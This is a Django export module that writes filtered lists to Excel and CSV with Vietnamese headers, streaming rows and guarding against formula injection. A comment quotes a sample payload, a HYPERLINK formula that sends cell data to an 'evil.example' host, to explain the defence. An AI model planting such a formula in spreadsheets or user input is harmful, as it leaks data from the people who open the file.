"""Excel (.xlsx) and CSV downloads of a filtered list, with Vietnamese headers."""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Callable, Iterable, Iterator, Sequence
from decimal import Decimal
from io import BytesIO
from typing import Any

from django.db.models import Model, QuerySet
from django.http import HttpResponse
from django.utils import timezone
from django.utils.translation import get_language
from xlsxwriter import Workbook

# An export's columns, declared once per list (<app>/exports.py): (header, value of one row).
Columns = tuple[tuple[Any, Callable[[Any], Any]], ...]


def headers(columns: Columns) -> list[str]:
    return [str(header) for header, _value in columns]


# Rows a queryset export holds at once: a 10,000-row export kept every row object to the end
# (90 MiB); in chunks its memory no longer grows with the rows.
CHUNK_SIZE = 2000


def rows(columns: Columns, records: Iterable[Any]) -> Iterator[list[Any]]:
    if isinstance(records, QuerySet):
        records = records.iterator(chunk_size=CHUNK_SIZE)  # prefetches per chunk too
    return ([value(record) for _header, value in columns] for record in records)


def choice_label(model: type[Model], field: str) -> Callable[[Any], str]:
    """A column's choice label, like get_FOO_display, but the labels are translated once per
    language (get_FOO_display translates every label of the field at each call). The record
    is a model object or a row of QuerySet.values()."""
    labels: dict[str | None, dict[Any, str]] = {}

    def label(record: Any) -> str:
        language = get_language()
        if language not in labels:
            choices = model._meta.get_field(field).flatchoices
            labels[language] = {value: str(text) for value, text in choices}
        value = record[field] if isinstance(record, dict) else getattr(record, field)
        return labels[language].get(value, value)

    return label


XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# Text that Excel or LibreOffice would run as a formula ("CSV/formula injection"): a petition
# or an imported cell reading =HYPERLINK("http://evil.example/?x="&A1,"click") turns into a
# live link that leaks the sheet. Tab and carriage return count too: a spreadsheet skips them
# and reads the formula behind.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def _neutralised(text: str) -> str:
    """A leading apostrophe makes any spreadsheet show the text as typed, never evaluate it."""
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def _cell(value: Any) -> Any:
    if isinstance(value, dt.datetime):
        # Excel has no time zones: write the local (Asia/Ho_Chi_Minh) wall-clock time.
        return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
    if value is None:
        return ""
    # Numbers stay numbers (a negative amount is not a formula); only text is neutralised.
    if isinstance(value, (int, float, Decimal, dt.date)):
        return value
    return _neutralised(str(value))


def xlsx_response(
    *, filename: str, headers: Sequence[str], rows: Iterable[Sequence[Any]], sheet: str = "Dữ liệu"
) -> HttpResponse:
    """XlsxWriter in constant_memory mode: each row goes to a temporary file once the next one
    starts, so memory does not grow with the rows; text is written inline. Twice as fast as
    openpyxl's write-only sheet (10,000 petitions: 2.3 -> 1.2 s for the writer alone)."""
    buffer = BytesIO()
    with Workbook(buffer, {"constant_memory": True}) as workbook:
        ws = workbook.add_worksheet(sheet[:31])
        bold = workbook.add_format({"bold": True})
        date_format = workbook.add_format({"num_format": "DD/MM/YYYY"})
        for col, title in enumerate(headers):
            ws.write_string(0, col, str(title), bold)
        for row_number, row in enumerate(rows, start=1):
            for col, value in enumerate(row):
                value = _cell(value)
                if isinstance(value, str):
                    # Always a string cell: write() takes any str that starts with "=" for a
                    # formula. An empty text is no cell at all, as openpyxl left it.
                    if value:
                        ws.write_string(row_number, col, value)
                elif isinstance(value, dt.date):
                    ws.write_datetime(row_number, col, value, date_format)
                elif isinstance(value, bool):
                    ws.write_boolean(row_number, col, value)
                else:
                    ws.write_number(row_number, col, value)
    response = HttpResponse(buffer.getvalue(), content_type=XLSX_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
    return response


def csv_response(
    *, filename: str, headers: Sequence[str], rows: Iterable[Sequence[Any]]
) -> HttpResponse:
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    response.write("\ufeff")  # BOM so Excel opens the Vietnamese text as UTF-8
    writer = csv.writer(response)
    writer.writerow(headers)
    for row in rows:
        # The same values as the workbook (text neutralised, local times), dates as text.
        writer.writerow(
            [v.strftime("%d/%m/%Y") if isinstance(v, dt.date) else v for v in map(_cell, row)]
        )
    return response
